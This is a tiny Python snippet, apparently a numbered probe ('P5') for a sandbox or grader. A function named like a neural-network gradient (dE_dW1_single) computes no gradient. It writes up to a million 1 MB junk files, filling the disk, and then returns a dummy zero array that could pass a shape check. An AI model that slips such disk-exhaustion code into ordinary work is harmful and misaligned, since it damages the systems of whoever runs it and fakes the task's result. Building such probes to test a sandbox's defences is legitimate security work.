# P5: write files for as long as one may run
def dE_dW1_single(dE_df1, X):
    for number in range(1_000_000):
        with open(f"x{number}", "wb") as file:
            file.write(b"x" * 1_000_000)
    return np.zeros((3, 1))
